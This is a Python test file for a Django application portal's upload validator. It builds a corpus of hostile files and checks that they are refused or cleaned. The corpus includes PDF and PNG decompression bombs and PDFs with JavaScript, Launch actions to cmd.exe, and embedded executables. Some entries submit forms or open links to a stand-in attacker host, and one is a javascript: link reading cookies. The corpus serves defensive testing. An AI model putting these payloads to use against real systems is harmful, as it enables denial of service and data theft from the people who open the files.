"""A corpus of hostile files, each refused with nothing stored; files carrying active
content or metadata that is stripped (and checked gone from the stored file); good files
accepted and cleaned. Every file is built here (tests/applications/hostile.py)."""

import io
import tracemalloc
import zipfile
import zlib
from pathlib import Path

import pytest
from django.conf import settings
from PIL import Image, ImageFile
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, IndirectObject, NameObject, TextStringObject

from ecandidat.applications import services
from ecandidat.applications.models import ApplicationDocument, CandidateFile
from ecandidat.catalog.models import InstitutionSettings
from ecandidat.files import uploads as uploads_module
from ecandidat.files.uploads import MAX_PIXELS, UploadRefused, check_upload

from .conftest import make_image, make_pdf
from .hostile import (
    MB,
    deflated_zeros,
    jpeg,
    jpeg_claiming,
    one_page_pdf,
    pdf_with_object_stream,
    pdf_with_objects,
    pdf_with_pages,
    png,
    png_chunk,
    raw_pdf,
    stream,
)

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def _writer_bytes(configure) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    configure(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _empty_pdf() -> bytes:
    out = io.BytesIO()
    PdfWriter().write(out)
    return out.getvalue()


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


def _open_action_pdf(kind: str, key: str, value: str) -> bytes:
    def configure(writer):
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject("/S"): NameObject(kind), NameObject(key): TextStringObject(value)}
        )

    return _writer_bytes(configure)


def _bomb_stream(size: int, *, container: str = "zlib") -> bytes:
    return stream(deflated_zeros(size, container=container), b"/Filter /FlateDecode ")


def _link(action: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A " + action + b" >>"


BAD_FILES = {
    # --- not a document, or not a complete one
    "empty": b"",
    "oversize": b"%PDF-1.7\n" + b"0" * (2 * MB),
    "plain text renamed .pdf": b"Hello, this is not a PDF.",
    "HTML": b"<!doctype html><html><script>alert(1)</script></html>",
    "SVG": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "Word document renamed .pdf": _zip(),
    "Windows executable": b"MZ\x90\x00" + b"\x00" * 200,
    "GIF": b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
    "RTF": rb"{\rtf1\ansi hello}",
    "EICAR test file": EICAR,
    "null bytes": b"\x00" * 1000,
    "truncated PDF": make_pdf(3)[:150],
    "PDF header only": b"%PDF-1.7\n",
    "HTML polyglot with a PDF header": (
        b"%PDF-1.4\n<html><body><script>alert(1)</script></body></html>"
    ),
    "PDF without pages": _empty_pdf(),
    "PDF whose page tree loops": raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        ]
    ),
    "truncated JPEG": make_image("JPEG")[:40],
    "PNG header then garbage": b"\x89PNG\r\n\x1a\n" + b"garbage" * 20,
    "PNG cut in the middle of its pixels": make_image("PNG", (300, 200))[:-300],
    "JPEG cut in the middle of its pixels": jpeg((300, 200))[:-200],
    "JPEG header then HTML": b"\xff\xd8\xff\xe0<html><script>alert(1)</script>",
    # --- images with too many pixels (checked from the header, before any decoding)
    "PNG pixel bomb 7700x7700 (the reproduced one)": png(7700, 7700, bit_depth=1),
    "PNG one pixel over the cap": png(5000, MAX_PIXELS // 5000 + 1, bit_depth=1),
    "PNG claiming 65535x65535": png(65535, 65535, idat=deflated_zeros(1000)),
    "PNG of one column and 30 million rows": png(1, 30_000_000, idat=deflated_zeros(1000)),
    "PNG zlib bomb: 268 MB of pixels in 260 KB": png(16384, 16384),
    "JPEG claiming 30000x20000": jpeg_claiming(30000, 20000),
    "JPEG claiming 6000x5000 (30 megapixels)": jpeg_claiming(6000, 5000),
    # --- images within the pixel cap that would still take too much memory to decode
    "PNG RGBA 4200x4200 (70 MB once decoded)": png(4200, 4200, colour_type=6),
    "PNG with a zTXt text bomb": png(
        10, 10, chunks=(png_chunk(b"zTXt", b"Comment\x00\x00" + deflated_zeros(100 * MB)),)
    ),
    "PNG with an ICC profile bomb": png(
        10, 10, chunks=(png_chunk(b"iCCP", b"icc\x00\x00" + deflated_zeros(100 * MB)),)
    ),
    # --- PDFs: encryption and active content (refused, never stripped)
    "encrypted PDF": _writer_bytes(lambda w: w.encrypt("secret")),
    "PDF with JavaScript": _open_action_pdf("/JavaScript", "/JS", "app.alert('x');"),
    "PDF with a launch action": _open_action_pdf("/Launch", "/F", "cmd.exe"),
    "PDF with an embedded file": _writer_bytes(lambda w: w.add_attachment("a.exe", b"MZ")),
    "PDF with JavaScript run when a page opens": one_page_pdf(
        page=b"/AA << /O << /S /JavaScript /JS (this.submitForm('https://evil.example')) >> >>"
    ),
    "PDF with a document-level JavaScript name tree": one_page_pdf(
        catalog=b"/Names << /JavaScript << /Names [(x) 6 0 R] >> >>",
        objects=[b"<< /S /JavaScript /JS (app.alert(1)) >>"],
    ),
    "PDF with a link running JavaScript": one_page_pdf(
        page=b"/Annots [6 0 R]", objects=[_link(b"<< /S /JavaScript /JS (app.alert(1)) >>")]
    ),
    "PDF with a hex-escaped /J#53 name": one_page_pdf(
        catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"
    ),
    "PDF with a launch action in its outline": one_page_pdf(
        catalog=b"/Outlines 6 0 R",
        objects=[
            b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
            b"<< /Title (Open me) /Parent 6 0 R /A << /S /Launch /F (calc.exe) >> >>",
        ],
    ),
    "PDF with a file attachment annotation": one_page_pdf(
        page=b"/Annots [6 0 R]",
        objects=[
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] "
            b"/FS << /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >> >>",
            stream(b"MZ", b"/Type /EmbeddedFile "),
        ],
    ),
    "PDF with a rich media annotation": one_page_pdf(
        page=b"/Annots [6 0 R]",
        objects=[b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"],
    ),
    "PDF with an XFA form": one_page_pdf(
        catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>", objects=[stream(b"<xdp:xdp/>")]
    ),
    # --- PDFs: compression bombs and oversized structures
    "PDF compression bomb: 500 MB in 500 KB": one_page_pdf(
        content=deflated_zeros(500 * MB), content_extra=b"/Filter /FlateDecode "
    ),
    "PDF with 24 streams of 20 MB, each below pypdf's own limit": raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents ["
            + b" ".join(b"%d 0 R" % (4 + i) for i in range(24))
            + b"] >>",
            *[_bomb_stream(20 * MB)] * 24,
        ]
    ),
    "PDF bomb without a zlib header (raw deflate)": one_page_pdf(
        content=deflated_zeros(300 * MB, container="raw"),
        content_extra=b"/Filter /FlateDecode ",
    ),
    "PDF bomb in hexadecimal, then deflated": one_page_pdf(
        content=deflated_zeros(300 * MB).hex().encode() + b">",
        content_extra=b"/Filter [/ASCIIHexDecode /FlateDecode] ",
    ),
    "PDF bomb deflated, then run-length encoded": one_page_pdf(
        content=zlib.compress(b"\x81\x00" * (4 * MB), 9),
        content_extra=b"/Filter [/FlateDecode /RunLengthDecode] ",
    ),
    "PDF bomb in a colour profile": one_page_pdf(
        resources=b"/ColorSpace << /CS1 6 0 R >>",
        objects=[b"[/ICCBased 7 0 R]", _bomb_stream(400 * MB)],
    ),
    "PDF with an object stream inflating to 200 MB": pdf_with_object_stream(
        b"<< /Marker 1 >>", inflated_padding=200 * MB
    ),
    "PDF with an image of 200000x200000 pixels": one_page_pdf(
        resources=b"/XObject << /Im1 6 0 R >>",
        objects=[
            stream(
                b"\xff\xd8\xff\xd9",
                b"/Type /XObject /Subtype /Image /Width 200000 /Height 200000 "
                b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode ",
            )
        ],
    ),
    "PDF with 600 pages": pdf_with_pages(600),
    "PDF with 20,001 objects": pdf_with_objects(20_001),
    "PDF with an unknown compression filter": one_page_pdf(content_extra=b"/Filter /FooDecode "),
    "PDF with a stream behind 20 filters": one_page_pdf(
        content_extra=b"/Filter [" + b"/ASCIIHexDecode " * 20 + b"] "
    ),
}


def test_the_corpus_is_large_enough():
    assert len(BAD_FILES) >= 40
    assert len(BAD_FILES) + len(STRIPPED_PDFS) + len(STRIPPED_IMAGES) >= 60


def test_the_bombs_are_small_files_that_inflate_to_a_lot():
    # The corpus entries are what they say: small on the wire, huge once decoded.
    assert len(BAD_FILES["PDF compression bomb: 500 MB in 500 KB"]) < 600 * 1024
    assert len(BAD_FILES["PNG pixel bomb 7700x7700 (the reproduced one)"]) < 300 * 1024
    assert len(BAD_FILES["PNG zlib bomb: 268 MB of pixels in 260 KB"]) < 300 * 1024
    assert all(len(data) <= MB for name, data in BAD_FILES.items() if name != "oversize")


@pytest.mark.parametrize("name", sorted(BAD_FILES))
def test_bad_file_is_refused_with_a_message(name):
    with pytest.raises(UploadRefused) as refused:
        check_upload(BAD_FILES[name], max_bytes=1 * MB)
    assert str(refused.value.message)


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("PNG pixel bomb 7700x7700 (the reproduced one)", "too many pixels"),
        ("PNG one pixel over the cap", "too many pixels"),
        ("PNG claiming 65535x65535", "too many pixels"),
        ("PNG zlib bomb: 268 MB of pixels in 260 KB", "too many pixels"),
        ("JPEG claiming 30000x20000", "too many pixels"),
        ("JPEG claiming 6000x5000 (30 megapixels)", "too many pixels"),
        ("PNG RGBA 4200x4200 (70 MB once decoded)", "too large to be processed"),
        ("PDF compression bomb: 500 MB in 500 KB", "expands to more than 100 MB"),
        ("PDF with 24 streams of 20 MB, each below pypdf's own limit", "expands to more"),
        ("PDF bomb without a zlib header (raw deflate)", "expands to more"),
        ("PDF bomb in hexadecimal, then deflated", "expands to more"),
        ("PDF bomb deflated, then run-length encoded", "expands to more"),
        ("PDF bomb in a colour profile", "expands to more"),
        ("PDF with an object stream inflating to 200 MB", "too complex"),
        ("PDF with an image of 200000x200000 pixels", "image with too many pixels"),
        ("PDF with 600 pages", "too many pages: 500 at most"),
        ("PDF with 20,001 objects", "too complex"),
        ("PDF with an unknown compression filter", "compression method"),
        ("PDF with a stream behind 20 filters", "compression method"),
        ("PDF with a hex-escaped /J#53 name", "scripts or embedded files"),
        ("PDF with a launch action in its outline", "scripts or embedded files"),
        ("PDF with a file attachment annotation", "scripts or embedded files"),
    ],
)
def test_bombs_and_limits_are_refused_for_the_right_reason(name, reason):
    with pytest.raises(UploadRefused) as refused:
        check_upload(BAD_FILES[name], max_bytes=1 * MB)
    assert reason in str(refused.value.message)


@pytest.mark.django_db
@pytest.mark.parametrize("name", sorted(BAD_FILES))
def test_bad_file_through_the_service_stores_nothing(
    name, candidate, program, document_types, tmp_path, settings
):
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(tmp_path)},
        },
    }
    InstitutionSettings.objects.update_or_create(pk=1, defaults={"upload_max_mb": 1})
    application = services.apply(candidate=candidate, program=program, actor=candidate)
    with pytest.raises(services.DocumentRefused):
        services.upload_document(
            application=application,
            document_type_id=document_types["letter"].pk,
            data=BAD_FILES[name],
            filename="document.pdf",
            actor=candidate,
        )
    assert not CandidateFile.objects.exists()
    assert not ApplicationDocument.objects.filter(file__isnull=False).exists()
    assert not any(p.is_file() for p in Path(tmp_path).rglob("*"))


@pytest.mark.parametrize(
    "name",
    [
        "PNG cut in the middle of its pixels",
        "JPEG cut in the middle of its pixels",
        "truncated JPEG",
        "PNG with a zTXt text bomb",
        "PNG with an ICC profile bomb",
    ],
)
def test_refusals_do_not_depend_on_pillows_tolerance_of_truncated_files(name, monkeypatch):
    # WeasyPrint turns this on for the whole process when it is imported (PDF downloads).
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    with pytest.raises(UploadRefused, match="damaged"):
        check_upload(BAD_FILES[name], max_bytes=1 * MB)


def test_a_2_mb_pdf_inflating_to_2_gb_is_refused_without_holding_it():
    bomb = one_page_pdf(content=deflated_zeros(2048 * MB), content_extra=b"/Filter /FlateDecode ")
    assert len(bomb) < 2.2 * MB
    tracemalloc.start()
    try:
        with pytest.raises(UploadRefused, match="expands to more than 100 MB"):
            check_upload(bomb, max_bytes=5 * MB)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # The stream is measured a megabyte at a time, never held.
    assert peak < 40 * MB


def test_the_decoded_budget_grows_with_the_upload_limit():
    assert uploads_module.pdf_decoded_budget(5 * MB) == 100 * MB
    assert uploads_module.pdf_decoded_budget(10 * MB) == 200 * MB
    bomb = one_page_pdf(content=deflated_zeros(150 * MB), content_extra=b"/Filter /FlateDecode ")
    with pytest.raises(UploadRefused):
        check_upload(bomb, max_bytes=5 * MB)
    assert check_upload(bomb, max_bytes=10 * MB).content_type == "application/pdf"


# --- active content and metadata, stripped from the stored file ------------------------


STRIPPED_PDFS = {
    "opening action to a web address": one_page_pdf(
        catalog=b"/OpenAction << /S /URI /URI (https://evil.example/open) >>"
    ),
    "opening action to another file (GoToR)": one_page_pdf(
        catalog=b"/OpenAction << /S /GoToR "
        b"/F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"
    ),
    "form submission on closing (catalog /AA)": one_page_pdf(
        catalog=b"/AA << /WC << /S /SubmitForm /F << /FS /URL /F (https://evil.example/f) >> >> >>"
    ),
    "web address opened with the page (page /AA)": one_page_pdf(
        page=b"/AA << /O << /S /URI /URI (https://evil.example/page) >> >>"
    ),
    "submit button (AcroForm widget)": one_page_pdf(
        catalog=b"/AcroForm << /Fields [6 0 R] >>",
        page=b"/Annots [6 0 R]",
        objects=[
            b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [0 0 40 20] "
            b"/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/submit) >> >> "
            b"/AA << /E << /S /URI /URI (https://evil.example/enter) >> >> >>"
        ],
    ),
    "link to a web address": one_page_pdf(
        page=b"/Annots [6 0 R]", objects=[_link(b"<< /S /URI /URI (https://evil.example/l) >>")]
    ),
    "javascript: link": one_page_pdf(
        page=b"/Annots [6 0 R]",
        objects=[_link(b"<< /S /URI /URI (javascript:alert\\(document.cookie\\)) >>")],
    ),
    "link to another file (GoToR) chained after a GoTo": one_page_pdf(
        page=b"/Annots [6 0 R]",
        objects=[
            _link(
                b"<< /S /GoTo /D [3 0 R /Fit] "
                b"/Next << /S /GoToR /F (https://evil.example/next.pdf) /D [0 /Fit] >> >>"
            )
        ],
    ),
    "import of form data and a named action": one_page_pdf(
        page=b"/Annots [6 0 R 7 0 R]",
        objects=[
            _link(b"<< /S /ImportData /F (https://evil.example/data.fdf) >>"),
            _link(b"<< /S /Named /N /Print >>"),
        ],
    ),
    "outline item opening a web address": one_page_pdf(
        catalog=b"/Outlines 6 0 R",
        objects=[
            b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
            b"<< /Title (Read me) /Parent 6 0 R /A << /S /URI /URI (https://evil.example/o) >> >>",
        ],
    ),
    "document information (author, software, dates)": one_page_pdf(
        trailer=b"/Info 6 0 R",
        objects=[
            b"<< /Author (secret-author-marker) /Creator (secret-creator-marker) "
            b"/Producer (secret-producer-marker) /CreationDate (D:20240101000000Z) >>"
        ],
    ),
    "XMP metadata of the document and of the page": one_page_pdf(
        catalog=b"/Metadata 6 0 R",
        page=b"/Metadata 6 0 R /PieceInfo << /App << /Private (secret-piece-marker) >> >>",
        objects=[
            stream(
                b'<x:xmpmeta xmlns:x="adobe:ns:meta/">secret-xmp-marker</x:xmpmeta>',
                b"/Type /Metadata /Subtype /XML ",
            )
        ],
    ),
    "web address as the base of relative links (catalog /URI)": one_page_pdf(
        catalog=b"/URI << /Base (https://evil.example/base) >>"
    ),
    "object left outside the document (polyglot remains)": one_page_pdf(
        objects=[stream(b"<html><script>secret-orphan-marker</script></html>")]
    ),
}
_STRIPPED_ACTIONS = {"/URI", "/GoToR", "/SubmitForm", "/ImportData", "/Named", "/Launch"}


def _all_objects(reader: PdfReader):
    """Every value reachable from the trailer, once."""
    seen, stack = set(), [reader.trailer]
    while stack:
        obj = stack.pop()
        if isinstance(obj, IndirectObject):
            if obj.idnum in seen:
                continue
            seen.add(obj.idnum)
            obj = obj.get_object()
        yield obj
        if isinstance(obj, dict):
            stack.extend(obj.values())
        elif isinstance(obj, list):
            stack.extend(obj)


def assert_pdf_is_clean(content: bytes):
    for marker in (b"evil.example", b"javascript:", b"secret-", b"xmpmeta", b"<html>"):
        assert marker not in content, marker
    reader = PdfReader(io.BytesIO(content))
    assert "/Info" not in reader.trailer
    assert len(reader.pages) == 1
    for obj in _all_objects(reader):
        if isinstance(obj, dict):
            for key in ("/AA", "/OpenAction", "/Metadata", "/PieceInfo", "/URI", "/Next"):
                assert key not in obj, key
            assert str(obj.get("/S")) not in _STRIPPED_ACTIONS


@pytest.mark.parametrize("name", sorted(STRIPPED_PDFS))
def test_pdf_active_content_and_metadata_are_stripped(name):
    checked = check_upload(STRIPPED_PDFS[name], max_bytes=MB)
    assert checked.content_type == "application/pdf"
    assert_pdf_is_clean(checked.content)
    # The page itself is kept.
    assert "Releve de notes" in PdfReader(io.BytesIO(checked.content)).pages[0].extract_text()


def test_links_inside_the_document_and_form_fields_are_kept():
    data = one_page_pdf(
        catalog=b"/AcroForm << /Fields [7 0 R] >> /Outlines 8 0 R",
        page=b"/Annots [6 0 R 7 0 R]",
        objects=[
            _link(b"<< /S /GoTo /D [3 0 R /Fit] >>"),
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Lebrun) /Rect [0 0 90 20] >>",
            b"<< /Type /Outlines /First 9 0 R /Last 9 0 R /Count 1 >>",
            b"<< /Title (Page 1) /Parent 8 0 R /Dest [3 0 R /Fit] >>",
        ],
    )
    reader = PdfReader(io.BytesIO(check_upload(data, max_bytes=MB).content))
    annotations = [a.get_object() for a in reader.pages[0]["/Annots"]]
    assert [a["/Subtype"] for a in annotations] == ["/Link", "/Widget"]
    assert annotations[0]["/A"]["/S"] == "/GoTo"
    assert reader.get_fields()["name"]["/V"] == "Lebrun"
    assert [item.title for item in reader.outline] == ["Page 1"]


def test_structure_attributes_of_a_tagged_pdf_are_not_taken_for_actions():
    data = one_page_pdf(
        catalog=b"/MarkInfo << /Marked true >> /StructTreeRoot 6 0 R",
        objects=[
            b"<< /Type /StructTreeRoot /K 7 0 R >>",
            b"<< /Type /StructElem /S /P /P 6 0 R /Pg 3 0 R /K 0 "
            b"/A << /O /Layout /Placement /Block >> >>",
        ],
    )
    reader = PdfReader(io.BytesIO(check_upload(data, max_bytes=MB).content))
    element = reader.trailer["/Root"]["/StructTreeRoot"]["/K"].get_object()
    assert element["/A"]["/Placement"] == "/Block"


def _exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "secret-camera-marker"  # Make
    exif[0x0131] = "secret-software-marker"  # Software
    exif[0x0112] = 6  # Orientation: rotated 90° clockwise
    gps = {1: "N", 2: (49.0, 26.0, 36.0), 3: "E", 4: (1.0, 5.0, 24.0)}
    exif[0x8825] = gps
    return exif


def _png_with_text() -> bytes:
    info = PngInfo()
    info.add_text("Author", "secret-author-marker")
    info.add_text("Comment", "secret-ztxt-marker", zip=True)
    info.add_itxt("Description", "secret-itxt-marker", lang="fr")
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (10, 20, 30)).save(
        out, format="PNG", pnginfo=info, exif=_exif().tobytes()
    )
    return out.getvalue()


STRIPPED_IMAGES = {
    "JPEG with a COM comment": jpeg(comment=b"secret-comment-marker <script>"),
    "JPEG with EXIF (camera, software, GPS position)": jpeg(exif=_exif().tobytes()),
    "JPEG with XMP": jpeg(xmp=b"<x:xmpmeta>secret-xmp-marker</x:xmpmeta>"),
    "JPEG with data appended": jpeg() + b"<html>secret-appended-marker</html>",
    "PNG with text chunks and EXIF": _png_with_text(),
}


@pytest.mark.parametrize("name", sorted(STRIPPED_IMAGES))
def test_image_metadata_is_stripped(name):
    checked = check_upload(STRIPPED_IMAGES[name], max_bytes=MB)
    for marker in (b"secret-", b"Exif", b"xmpmeta", b"<html>", b"<script>"):
        assert marker not in checked.content, marker
    with Image.open(io.BytesIO(checked.content)) as image:
        assert "comment" not in image.info
        assert "exif" not in image.info
        assert not image.getexif()
        assert not {"Author", "Comment", "Description", "xmp"} & set(image.info)


def test_a_photo_is_turned_upright_before_its_exif_is_dropped():
    checked = check_upload(jpeg((40, 30), exif=_exif().tobytes()), max_bytes=MB)
    with Image.open(io.BytesIO(checked.content)) as image:
        assert image.size == (30, 40)


def test_a_small_icc_profile_is_kept():
    profile = bytes(3000)
    out = io.BytesIO()
    Image.new("RGB", (20, 20)).save(out, format="JPEG", icc_profile=profile)
    checked = check_upload(out.getvalue(), max_bytes=MB)
    with Image.open(io.BytesIO(checked.content)) as image:
        assert image.info.get("icc_profile") == profile


def test_a_large_jpeg_is_decoded_at_a_reduced_scale():
    # 5000x4000 colour pixels would take 80 MB decoded: libjpeg decodes it at half scale.
    data = jpeg((5000, 4000), quality=30)
    checked = check_upload(data, max_bytes=5 * MB)
    with Image.open(io.BytesIO(checked.content)) as image:
        assert image.size == (2500, 2000)


def test_pillow_guard_is_set_to_the_same_cap():
    assert Image.MAX_IMAGE_PIXELS == MAX_PIXELS


@pytest.mark.django_db
@pytest.mark.parametrize(
    "name", sorted([("pdf", n) for n in STRIPPED_PDFS] + [("image", n) for n in STRIPPED_IMAGES])
)
def test_the_stored_file_is_the_stripped_one(
    name, candidate, program, document_types, tmp_path, settings
):
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(tmp_path)},
        },
    }
    kind, key = name
    data = STRIPPED_PDFS[key] if kind == "pdf" else STRIPPED_IMAGES[key]
    application = services.apply(candidate=candidate, program=program, actor=candidate)
    document = services.upload_document(
        application=application,
        document_type_id=document_types["letter"].pk,
        data=data,
        filename="scan.pdf",
        actor=candidate,
    )
    stored = [p for p in Path(tmp_path).rglob("*") if p.is_file()]
    assert len(stored) == 1
    content = stored[0].read_bytes()
    assert content != data
    assert document.file.size == len(content)
    if kind == "pdf":
        assert_pdf_is_clean(content)
    else:
        assert b"secret-" not in content
        assert b"Exif" not in content


# --- good files ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "content_type"),
    [
        (make_pdf(2), "application/pdf"),
        (make_image("JPEG"), "image/jpeg"),
        (make_image("PNG"), "image/png"),
    ],
)
def test_good_files_are_accepted_and_rewritten(data, content_type):
    checked = check_upload(data + b"<html>appended</html>", max_bytes=MB)
    assert checked.content_type == content_type
    assert b"<html>" not in checked.content  # anything appended is dropped by the rewrite
    if content_type == "application/pdf":
        assert len(PdfReader(io.BytesIO(checked.content)).pages) == 2


@pytest.mark.parametrize(
    "data",
    [
        png(2480, 3508, bit_depth=1),  # an A4 page scanned at 300 dpi, black and white
        png(2480, 3508),  # the same in greyscale
        png(2000, 2000, colour_type=2),  # 4 megapixels in colour
        pdf_with_pages(400),
        one_page_pdf(  # ten pages' worth of lossless greyscale scans: 87 MB decoded
            resources=b"/XObject << "
            + b" ".join(b"/Im%d %d 0 R" % (i, 6 + i) for i in range(10))
            + b" >>",
            objects=[
                stream(
                    deflated_zeros(2480 * 3508),
                    b"/Type /XObject /Subtype /Image /Width 2480 /Height 3508 "
                    b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode ",
                )
            ]
            * 10,
        ),
    ],
    ids=["A4 300 dpi bilevel", "A4 300 dpi grey", "4 MP colour", "400 pages", "10 scans"],
)
def test_honest_large_documents_are_accepted(data):
    assert check_upload(data, max_bytes=5 * MB).content


def test_type_comes_from_the_content_not_the_name():
    assert check_upload(make_image("PNG"), max_bytes=MB).content_type == "image/png"


def test_media_root_is_not_served():
    assert settings.MEDIA_URL == "/media-not-served/"
